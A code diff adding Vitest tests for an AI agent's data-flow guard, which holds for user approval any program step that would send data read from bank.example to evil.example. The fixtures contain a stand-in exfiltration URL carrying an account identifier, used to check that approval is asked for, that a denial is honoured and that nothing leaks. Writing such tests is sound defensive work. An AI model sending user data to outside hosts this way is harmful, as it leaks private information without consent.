@@ -6,7 +6,14 @@
 import { describe, expect, it } from 'vitest';
 import { calls, say } from '../support/scriptedModel.ts';
 import { FakeHost, outputOf, setup, waitFor } from './helpers.ts';
-import type { CallAssessment, FlowGrant, NestedFlowCheck, ToolRunContext } from '../../src/agent/toolHost.ts';
+import type {
+  CallAssessment,
+  FlowBlock,
+  FlowGrant,
+  NestedFlowCheck,
+  ToolRunContext,
+} from '../../src/agent/toolHost.ts';
+import { blockedFlowOf, FlowBlockedError, flowSentence } from '../../src/tools/guard/guard.ts';
 import { z } from '../../src/shared/zod.ts';
 
 const BLOG = 'https://blog.example';
@@ -257,5 +264,162 @@ describe('calls inside a running program are judged when they run', () => {
       await h.runner.approve(h.conversationId, 'prog~1', 'once');
       expect((await running).status).toBe('completed');
     });
+  });
+});
+
+describe('a program step only the data-flow guard asks about: one inline card, the program goes on (code mode)', () => {
+  const SENT = 'https://evil.example/c?d=ACCT-7731';
+  const EVIL = 'https://evil.example';
+  const SENTENCE = 'Data read from bank.example may be sent to evil.example';
+
+  /** A host whose ot.run runs a program: a read, then a fetch the step's guard refuses until the gate allowed it. */
+  async function flowOnlySetup() {
+    const h = await setup({ origin: BLOG, turns: [calls([{ name: 'ot__run', args: {}, callId: 'prog' }]), say('ok')] });
+    const host = new TargetHost();
+    const sent: string[] = [];
+    const steps: string[] = [];
+    // web.fetch asks nothing of the target rule (a read); only the flow makes it a question.
+    host.define('web.fetch', {
+      readOnly: true,
+      schema: z.object({ url: z.string() }),
+      impl: (a) => (sent.push(String(a.url)), 'fetched'),
+    });
+    let allowed: FlowGrant[] = [];
+    const guard: NestedFlowCheck = {
+      blocked: async () =>
+        allowed.some((p) => p.to === EVIL)
+          ? undefined
+          : {
+              block: { from: [BANK], to: EVIL, data: SENT, sentence: SENTENCE },
+              pairs: [{ from: [BANK], to: EVIL }],
+            },
+      allow: (pairs) => (allowed = [...allowed, ...pairs]),
+    };
+    host.define('ot.run', {
+      readOnly: false,
+      schema: z.object({}),
+      impl: async (_a, ctx: ToolRunContext) => {
+        steps.push('read');
+        await ctx.approve!('web.fetch', { url: SENT }, guard);
+        // What the interceptor's check does next: the guard refuses what the gate did not allow.
+        if (!allowed.some((p) => p.to === EVIL)) throw new Error('the guard stopped web.fetch');
+        sent.push(SENT);
+        steps.push('after the fetch');
+        return 'program done';
+      },
+    });
+    h.host = host;
+    h.runner = h.newRunner();
+    return { h, sent, steps, allowed: () => allowed };
+  }
+
+  it('asks once inline, naming the flow (no action line); yes lets exactly that step through and the program goes on', async () => {
+    const { h, sent, steps, allowed } = await flowOnlySetup();
+    const running = h.runner.send(h.conversationId, 'run it');
+    await waitFor(async () => (await h.state())?.status === 'awaiting_approval', 'the inline approval');
+    const approval = (await h.state())!.approval!;
+    expect(approval).toMatchObject({
+      callId: 'prog~1',
+      name: 'web.fetch',
+      parentCallId: 'prog',
+      flow: { from: [BANK], to: EVIL, data: SENT, sentence: SENTENCE },
+    });
+    expect(approval.targetAsks).toBeUndefined();
+    // Un-answered: nothing has left.
+    expect(sent).toEqual([]);
+    await h.runner.approve(h.conversationId, 'prog~1', 'once');
+    expect((await running).status).toBe('completed');
+    expect(h.eventsOf('approval.required').map((e) => e.approval.callId)).toEqual(['prog~1']);
+    expect(allowed()).toEqual([{ from: [BANK], to: EVIL }]);
+    expect(sent).toEqual([SENT]);
+    expect(steps).toEqual(['read', 'after the fetch']);
+    expect(outputOf(await h.items(), 'prog')).toBe('program done');
+    expect(await h.sites.isFlowAllowed(BANK, EVIL)).toBe(false);
+  });
+
+  it('no stops the program; nothing is sent and the model reads the refused flow', async () => {
+    const { h, sent, steps, allowed } = await flowOnlySetup();
+    const running = h.runner.send(h.conversationId, 'run it');
+    await waitFor(async () => (await h.state())?.status === 'awaiting_approval', 'the inline approval');
+    await h.runner.deny(h.conversationId, 'prog~1');
+    expect((await running).status).toBe('completed');
+    expect(sent).toEqual([]);
+    expect(allowed()).toEqual([]);
+    expect(steps).toEqual(['read']);
+    expect(h.eventsOf('approval.required')).toHaveLength(1);
+    expect(outputOf(await h.items(), 'prog')).toBe(
+      'Error: the user denied web.fetch: data read from bank.example may be sent to evil.example. Nothing was sent. Do not try to send this data another way.',
+    );
+  });
+
+  it('"always" stores the pair of sites, not the destination as a site for actions', async () => {
+    const { h, sent } = await flowOnlySetup();
+    const running = h.runner.send(h.conversationId, 'run it');
+    await waitFor(async () => (await h.state())?.status === 'awaiting_approval', 'the inline approval');
+    await h.runner.approve(h.conversationId, 'prog~1', 'site');
+    expect((await running).status).toBe('completed');
+    expect(sent).toEqual([SENT]);
+    expect(await h.sites.isFlowAllowed(BANK, EVIL)).toBe(true);
+    expect(await h.sites.isAllowed(EVIL)).toBe(false);
+  });
+
+  it('a program the guard still stops (the gate could not see the flow) runs again after the card on ot.run, and asks none of its earlier questions twice', async () => {
+    const h = await setup({
+      origin: BLOG,
+      turns: [calls([{ name: 'ot__run', args: {}, callId: 'prog' }]), say('ok')],
+    });
+    /** With the guard's hooks: the enclosing call stopped by it pauses for the flow card and runs again after a yes. */
+    class GuardedTargetHost extends TargetHost {
+      async checkFlow(): Promise<FlowBlock | undefined> {
+        return undefined; // ot.run itself sends nothing
+      }
+      blockedFlow(error: unknown): FlowBlock | undefined {
+        const b = blockedFlowOf(error);
+        return b ? { ...b.flow, sentence: flowSentence(b.flow.from, b.flow.to) } : undefined;
+      }
+    }
+    const host = new GuardedTargetHost();
+    host.define('dom.click', {
+      readOnly: false,
+      schema: z.object({ ref: z.string(), site: z.string() }),
+      destructive: () => true,
+      impl: () => 'clicked',
+    });
+    const steps: string[] = [];
+    const sent: string[] = [];
+    host.define('ot.run', {
+      readOnly: false,
+      schema: z.object({}),
+      impl: async (_a, ctx: ToolRunContext) => {
+        await ctx.approve!('dom.click', { ref: 'next', site: BANK });
+        steps.push('next');
+        // A step whose refusal the program survives (web.fetch_many goes on past a refused fetch).
+        await ctx.approve!('dom.click', { ref: 'other', site: BANK }).catch(() => steps.push('other refused'));
+        // The guard stops the last step although the gate saw no flow (the page changed in between, say).
+        const granted = ctx.flow?.grants?.some((g) => g.to === EVIL);
+        if (!granted)
+          throw new FlowBlockedError('web.fetch', { ok: false, from: [BANK], to: EVIL, data: SENT, kind: 'url' });
+        sent.push(SENT);
+        return 'program done';
+      },
+    });
+    h.host = host;
+    h.runner = h.newRunner();
+    const running = h.runner.send(h.conversationId, 'run it');
+    await waitFor(async () => (await h.state())?.approval?.callId === 'prog~1', 'the first inline approval');
+    await h.runner.approve(h.conversationId, 'prog~1', 'once');
+    await waitFor(async () => (await h.state())?.approval?.callId === 'prog~2', 'the second inline approval');
+    await h.runner.deny(h.conversationId, 'prog~2');
+    const paused = await running;
+    expect(paused.approval).toMatchObject({ callId: 'prog', name: 'ot.run', flow: { to: EVIL, sentence: SENTENCE } });
+    expect(sent).toEqual([]);
+    // Yes on ot.run: the program runs from the start; the two earlier cards get their answers, unasked.
+    const done = await h.runner.approve(h.conversationId, 'prog', 'once');
+    expect(done.status).toBe('completed');
+    expect(h.eventsOf('approval.required').map((e) => e.approval.callId)).toEqual(['prog~1', 'prog~2', 'prog']);
+    expect(steps).toEqual(['next', 'other refused', 'next', 'other refused']);
+    expect(sent).toEqual([SENT]);
+    expect(outputOf(await h.items(), 'prog')).toBe('[The user approved this call.]\nprogram done');
+    expect((await h.state())!.pendingCalls).toEqual([]);
   });
 });
